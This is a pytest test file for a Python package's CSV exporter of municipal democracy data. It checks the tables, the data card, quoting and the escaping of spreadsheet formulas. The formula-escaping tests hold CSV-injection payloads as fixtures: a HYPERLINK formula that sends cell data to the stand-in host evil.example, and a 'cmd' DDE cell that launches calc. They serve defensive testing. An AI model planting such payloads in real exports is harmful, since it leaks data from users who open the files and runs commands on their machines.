"""The CSV export: tidy tables that the csv module reads back, and a data card that tells all."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import threading
from pathlib import Path

import pytest

import democratie
from democratie.exporters import ExportError, export, export_bytes
from democratie.exporters.tables import DATA_CARD, Field, Table, csv_files, csv_text, tables
from democratie.graph import build_graph
from democratie.model import ContactDetail, Initiative, Landscape, Person, Role, Source
from democratie.scoring import (
    Bilingual,
    Score,
    Scorecard,
    Scorecards,
    ScoringContext,
    Subject,
    run,
)
from democratie.scoring.rules import BUILTIN_RULES, CrossSectorCoverage, DomainCoverage
from democratie.vocab import ContactKind, InitiativeKind, RoleKind

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = sorted((ROOT / "examples").glob("*.toml"))
FIXED = {"generated": dt.date(2025, 3, 1)}
TABLES = [
    "nodes.csv",
    "edges.csv",
    "roles.csv",
    "initiatives.csv",
    "indicators.csv",
    "measurements.csv",
    "scores.csv",
]


def read(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def card_section(card: str, title: str) -> str:
    match = re.search(rf"^## {title}\n(.*?)(?=^## |\Z)", card, flags=re.MULTILINE | re.DOTALL)
    assert match is not None, title
    return match.group(1)


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_the_tables_hold_one_row_per_thing_in_document_order(path: Path) -> None:
    land = democratie.load(path)
    graph = build_graph(land)
    files = csv_files(land, graph, FIXED)
    assert list(files) == [*TABLES, DATA_CARD]
    nodes = read(files["nodes.csv"])
    assert [row["id"] for row in nodes] == list(graph.nx.nodes)
    assert [row["kind"] for row in nodes] == [d["kind"] for _, d in graph.nx.nodes(data=True)]
    edges = read(files["edges.csv"])
    assert [(row["source"], row["target"], row["relation"]) for row in edges] == [
        (u, v, d["relation"]) for u, v, d in graph.nx.edges(data=True)
    ]
    assert [row["id"] for row in edges] == [f"e{i}" for i in range(len(edges))]
    roles = read(files["roles.csv"])
    assert [(row["holder"], row["kind"], row["at"]) for row in roles] == [
        (r.holder, r.kind.value, r.at or "") for r in land.roles
    ]
    initiatives = read(files["initiatives.csv"])
    assert [(row["id"], row["title"]) for row in initiatives] == [
        (i.id, i.title) for i in land.initiatives
    ]
    assert [int(row["participant_count"]) for row in initiatives] == [
        len(i.participants) for i in land.initiatives
    ]
    assert [int(row["evaluation_count"]) for row in initiatives] == [
        len(i.evaluations) for i in land.initiatives
    ]
    indicators = [
        *((m.id, d) for m in land.municipalities for d in m.indicators),
        *((i.id, d) for i in land.initiatives for d in i.indicators),
    ]
    assert [(row["owner"], row["id"]) for row in read(files["indicators.csv"])] == [
        (owner, d.id) for owner, d in indicators
    ]
    assert [
        (row["indicator"], row["date"], float(row["value"]))
        for row in read(files["measurements.csv"])
    ] == [(d.id, m.date.isoformat(), m.value) for _, d in indicators for m in d.measurements]
    scores = read(files["scores.csv"])
    cards = run(land, BUILTIN_RULES, graph=graph)
    assert [(row["subject"], row["rule"]) for row in scores] == [
        (card.subject, score.rule) for card in cards.cards for score in card.scores
    ]
    for row, score in zip(scores, (s for c in cards.cards for s in c.scores), strict=True):
        if score.value is None:
            assert (row["value"], row["applicable"]) == ("", "false")
        else:
            assert (float(row["value"]), row["applicable"]) == (score.value, "true")


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_the_data_card_describes_every_file_and_every_field(path: Path) -> None:
    land = democratie.load(path)
    files = csv_files(land, options={**FIXED, "licence": "CC BY 4.0"})
    card = files[DATA_CARD].decode("utf-8")
    assert card.startswith(f"# {land.title}: open data\n")
    assert "Generated on 2025-03-01 with democratie " in card
    listing = card_section(card, "Files")
    for name in TABLES:
        rows = len(read(files[name]))
        assert f"| `{name}` | {rows} |" in listing
    fields = card_section(card, "Fields")
    for name in TABLES:
        header = next(csv.reader(io.StringIO(files[name].decode("utf-8"))))
        section = fields.split(f"### `{name}`\n", 1)[1].split("### ", 1)[0]
        described = re.findall(r"^\| `([^`]+)` \| ([a-z/]+) \| (.+) \|$", section, re.MULTILINE)
        assert [name for name, _, _ in described] == header
        assert all(meaning.strip() for _, _, meaning in described)
    assert "These files are published under: CC BY 4.0." in card_section(card, "Licence")
    sources = card_section(card, "Sources")
    for source in land.sources:
        assert source.title in sources
    assert "CBS municipal classification 2025" in sources
    assert "Contact details (e-mail addresses, phone numbers) are left out." in card


def test_every_graph_attribute_of_the_examples_is_described() -> None:
    """A new attribute in the graph builder needs a meaning in the data card."""
    for path in EXAMPLES:
        card = csv_files(democratie.load(path), options=FIXED)[DATA_CARD].decode("utf-8")
        assert "not described here" not in card, path.name


def test_an_undescribed_attribute_is_still_listed_with_its_type() -> None:
    land = Landscape(people=(Person(id="p-an", name="An"),))
    graph = build_graph(land)
    graph.nx.nodes["p-an"]["betweenness"] = 0.5
    card = csv_files(land, graph, FIXED)[DATA_CARD].decode("utf-8")
    assert "| `betweenness` | number | added to the graph by a plugin or a program" in card


def test_the_data_card_without_licence_sources_or_cbs_codes_says_so() -> None:
    land = Landscape(people=(Person(id="p-an", name="An"),))
    card = csv_files(land, options=FIXED)[DATA_CARD].decode("utf-8")
    assert card.startswith("# Landscape: open data\n")
    assert "No licence was given" in card_section(card, "Licence")
    assert card_section(card, "Sources").strip() == "The landscape names no sources."
    with_source = Landscape(
        sources=(Source(title="Raadsinformatie", url="https://example.org/ris", note="CC0"),)
    )
    sources = card_section(csv_files(with_source, options=FIXED)[DATA_CARD].decode(), "Sources")
    assert sources.strip() == "- Raadsinformatie <https://example.org/ris>: CC0"


def test_contacts_are_a_table_of_their_own_only_when_asked_for() -> None:
    land = Landscape(
        people=(
            Person(
                id="p-an",
                name="An",
                contact=(ContactDetail(kind=ContactKind.EMAIL, value="an@example.org"),),
            ),
        )
    )
    assert "contacts.csv" not in csv_files(land, options=FIXED)
    files = csv_files(land, options={**FIXED, "include_private": True})
    assert read(files["contacts.csv"]) == [
        {
            "holder": "p-an",
            "holder_kind": "person",
            "holder_name": "An",
            "kind": "email",
            "value": "an@example.org",
        }
    ]
    assert "Handle them as personal data" in files[DATA_CARD].decode("utf-8")


def test_scores_can_be_given_or_left_out() -> None:
    land = democratie.load(ROOT / "examples" / "leusden-samenleving-voorop.toml")
    subject = land.initiatives[0].id
    cards = Scorecards(
        cards=(
            Scorecard(
                subject=subject,
                kind="initiative",
                title="T",
                scores=(
                    Score(
                        rule="mijn.regel",
                        subject=subject,
                        value=-0.5,
                        value_range=(-1.0, 1.0),
                        explanation=Bilingual(nl="Half.", en="Half, below zero."),
                    ),
                    Score.not_applicable(
                        "mijn.bereik",
                        subject,
                        nl="Geen traject.",
                        en="No trajectory.",
                        out_of_scope=True,
                    ),
                ),
            ),
        ),
        rules=("mijn.regel", "mijn.bereik"),
    )
    rows = read(csv_files(land, options={**FIXED, "scores": cards})["scores.csv"])
    assert rows == [
        {
            "subject": subject,
            "subject_kind": "initiative",
            "subject_title": "T",
            "rule": "mijn.regel",
            "value": "-0.5",
            "value_min": "-1.0",
            "value_max": "1.0",
            "normalised": "0.25",
            "applicable": "true",
            "out_of_scope": "false",
            "explanation_en": "Half, below zero.",
            "explanation_nl": "Half.",
            "status": "scored",
            "failure": "",
        },
        {
            "subject": subject,
            "subject_kind": "initiative",
            "subject_title": "T",
            "rule": "mijn.bereik",
            "value": "",
            "value_min": "0.0",
            "value_max": "1.0",
            "normalised": "",
            "applicable": "false",
            "out_of_scope": "true",
            "explanation_en": "No trajectory.",
            "explanation_nl": "Geen traject.",
            "status": "not_applicable",
            "failure": "",
        },
    ]
    assert "scores.csv" not in csv_files(land, options={**FIXED, "scores": False})
    with pytest.raises(ExportError, match="'scores' must be Scorecards or False"):
        csv_files(land, options={"scores": "all"})


def test_a_rule_that_failed_has_a_row_without_value_and_the_data_card_names_it() -> None:
    land = democratie.load(ROOT / "examples" / "leusden-samenleving-voorop.toml")
    subject = land.initiatives[0].id

    class Broken(DomainCoverage):
        def evaluate(self, subject: Subject, context: ScoringContext) -> Score:
            raise LookupError("no such domain")

    rules = [DomainCoverage(), Broken(name="mijn.kapot"), CrossSectorCoverage()]
    cards = run(land, rules, only=[subject])
    assert [(f.rule, f.subject, f.code) for f in cards.failures] == [
        ("mijn.kapot", subject, "raised")
    ]
    files = csv_files(land, options={**FIXED, "scores": cards})
    rows = [row for row in read(files["scores.csv"]) if row["subject"] == subject]
    # in the order the rules ran, the failed one in its place
    assert [(row["rule"], row["status"]) for row in rows] == [
        ("domain_coverage", "not_applicable"),
        ("mijn.kapot", "failed"),
        ("cross_sector_coverage", "scored"),
    ]
    failed = rows[1]
    assert failed["failure"] == "raised"
    assert (failed["value"], failed["normalised"], failed["applicable"]) == ("", "", "")
    assert failed["explanation_en"] == "LookupError: no such domain"
    assert failed["explanation_nl"] == "de regel gaf een fout: LookupError: no such domain"
    assert (failed["subject_kind"], failed["subject_title"]) == (
        "initiative",
        land.initiatives[0].title,
    )
    assert {row["failure"] for row in (rows[0], rows[2])} == {""}
    card = files[DATA_CARD].decode("utf-8")
    listed = card_section(card, "Rules that failed")
    assert (
        f"- `mijn.kapot` on `{subject}` ({land.initiatives[0].title}): "
        "LookupError: no such domain (`raised`)"
    ) in listed
    assert "`over-budget`" in card_section(card, "Fields")
    fine = csv_files(land, options=FIXED)[DATA_CARD].decode("utf-8")
    assert card_section(fine, "Rules that failed").strip().startswith("None: every rule")
    assert "Rules that failed" not in csv_files(land, options={**FIXED, "scores": False})[
        DATA_CARD
    ].decode("utf-8")


def test_a_rule_stopped_at_its_time_limit_is_in_scores_csv() -> None:
    land = democratie.load(ROOT / "examples" / "leusden-samenleving-voorop.toml")
    from test_one_analysis import waits_for

    subject = land.initiatives[0].id
    release = threading.Event()
    Waits = waits_for(release)
    before = set(threading.enumerate())
    try:
        cards = run(land, [Waits(), DomainCoverage()], time_budget=0.2, only=[subject])
    finally:
        release.set()
        for left in set(threading.enumerate()) - before:
            left.join(10)
    rows = read(csv_files(land, options={**FIXED, "scores": cards})["scores.csv"])
    (failed,) = [row for row in rows if row["status"] == "failed"]
    assert (failed["subject"], failed["rule"], failed["failure"]) == (
        subject,
        "extra.waits",
        "over-budget",
    )
    assert failed["explanation_en"] == "it was stopped after 0.2 s, its time limit"
    assert failed["explanation_nl"] == "de regel is na 0,2 s gestopt: dat is zijn tijdslimiet"


def test_options_with_wrong_values_are_refused() -> None:
    land = Landscape()
    with pytest.raises(ExportError, match="'licence' must be a text"):
        export_bytes(land, "csv", options={"licence": " "})
    with pytest.raises(ExportError, match="'generated' must be a date"):
        export_bytes(land, "csv", options={"generated": 2025})


def test_values_are_quoted_only_where_needed_and_read_back_the_same() -> None:
    land = Landscape(
        people=(Person(id="p-an", name='An "de" Vries, Jr.'),),
        roles=(
            Role(
                holder="p-an",
                kind=RoleKind.WETHOUDER,
                title="Wethouder Financiën",
                portfolio=("Financiën", "Sport"),
                start=dt.date(2022, 6, 1),
            ),
        ),
        initiatives=(
            Initiative(
                id="ini",
                title="Eén",
                kind=InitiativeKind.EXPERIMENT,
                description="Regel een\r\nregel twee",
            ),
        ),
    )
    files = csv_files(land, options=FIXED)
    text = files["roles.csv"].decode("utf-8")
    assert '"An ""de"" Vries, Jr."' in text
    assert ",Wethouder Financiën,2022-06-01,,Financiën|Sport," in text
    (row,) = read(files["roles.csv"])
    assert row["holder_name"] == 'An "de" Vries, Jr.'
    assert row["portfolio"] == "Financiën|Sport"
    assert row["at"] == ""
    initiatives = files["initiatives.csv"].decode("utf-8")
    assert initiatives.endswith(',"Regel een\r\nregel twee"\n')
    (row,) = read(files["initiatives.csv"])
    assert row["description"] == "Regel een\r\nregel twee"


def test_csv_text_writes_the_header_then_the_rows() -> None:
    table = Table(
        "t.csv",
        "a row",
        (Field("a", "integer", "x"), Field("b", "true/false", "y"), Field("c", "number", "z")),
        ((1, True, 0.1), (None, False, 2.0)),
    )
    assert csv_text(table) == "a,b,c\n1,true,0.1\n,false,2.0\n"


def test_tables_can_be_had_without_writing_files() -> None:
    land = democratie.load(ROOT / "examples" / "delft-zeven-van-delft.toml")
    found = tables(land, with_scores=False)
    assert [t.name for t in found] == TABLES[:-1]
    nodes = found[0]
    assert nodes.rows[0][:3] == ("delft", "municipality", "Delft")
    assert {f.name: f.type for f in nodes.fields}["wijk_count"] == "integer"


def test_the_folder_written_holds_exactly_the_files(tmp_path: Path) -> None:
    land = democratie.load(ROOT / "examples" / "delft-zeven-van-delft.toml")
    folder = export(land, "csv", tmp_path / "delft", options=FIXED)
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == csv_files(land, options=FIXED)


EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _landscape_with_formulas() -> Landscape:
    return democratie.loads(
        f"""
format = "democratie/1"
[[municipalities]]
id = "leusden"
cbs_code = "GM0327"
[[municipalities.indicators]]
id = "saldo"
goal = "@SUM(A1:A9)"
direction = "omhoog"
baseline = -3
target = -1.5
[[people]]
id = "p-evil"
name = '{EVIL}'
[[roles]]
holder = "p-evil"
kind = "raadslid"
at = "leusden-raad"
title = "+31 6 1234 5678"
[[initiatives]]
id = "ini"
title = "-min"
kind = "experiment"
description = "\\tcmd|' /C calc'!A0"
""",
    )


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
    files = csv_files(_landscape_with_formulas(), options={**FIXED, "scores": False})
    nodes = files["nodes.csv"].decode("utf-8")
    assert EVIL not in nodes.replace('""', '"').replace("'=", "")
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in nodes
    labels = {row["id"]: row["label"] for row in read(files["nodes.csv"])}
    assert labels["p-evil"] == "'" + EVIL
    assert labels["ini"] == "'-min"
    assert labels["leusden"] == "Leusden"
    (role,) = read(files["roles.csv"])
    assert role["title"] == "'+31 6 1234 5678"
    assert role["holder_name"] == "'" + EVIL
    (initiative,) = read(files["initiatives.csv"])
    assert initiative["description"] == "'\tcmd|' /C calc'!A0"
    (indicator,) = read(files["indicators.csv"])
    # Numbers are data: a negative baseline is not a formula and keeps its sign.
    assert (indicator["goal"], indicator["baseline"], indicator["target"]) == (
        "'@SUM(A1:A9)",
        "-3.0",
        "-1.5",
    )
    for name, data in files.items():
        if name.endswith(".csv"):
            for line in data.decode("utf-8").splitlines():
                for cell in next(csv.reader([line])):
                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
    conventions = card_section(files[DATA_CARD].decode("utf-8"), "Conventions")
    assert "has a single quote (`'`) in front" in conventions


def test_formulas_can_be_written_as_they_are_for_programs() -> None:
    options = {**FIXED, "scores": False, "escape_formulas": False}
    files = csv_files(_landscape_with_formulas(), options=options)
    labels = {row["id"]: row["label"] for row in read(files["nodes.csv"])}
    assert labels["p-evil"] == EVIL
    assert labels["ini"] == "-min"
    conventions = card_section(files[DATA_CARD].decode("utf-8"), "Conventions")
    assert "do not open these files in a spreadsheet" in conventions
    with pytest.raises(ExportError, match="'escape_formulas' must be True or False"):
        csv_files(Landscape(), options={"escape_formulas": "no"})


def test_the_command_line_escapes_formulas_unless_told_not_to(tmp_path: Path) -> None:
    from democratie.cli import main

    source = tmp_path / "evil.toml"
    democratie.dump(_landscape_with_formulas(), source)
    assert main(["export", str(source), "--format", "csv", "--output", str(tmp_path / "a")]) == 0
    labels = {row["id"]: row["label"] for row in read((tmp_path / "a" / "nodes.csv").read_bytes())}
    assert labels["p-evil"] == "'" + EVIL
    args = ["export", str(source), "--format", "csv", "--no-escape-formulas"]
    assert main([*args, "--output", str(tmp_path / "b")]) == 0
    labels = {row["id"]: row["label"] for row in read((tmp_path / "b" / "nodes.csv").read_bytes())}
    assert labels["p-evil"] == EVIL
    args = ["export", str(source), "--format", "graphml", "--no-escape-formulas"]
    assert main([*args, "--output", str(tmp_path / "c.graphml")]) == 2
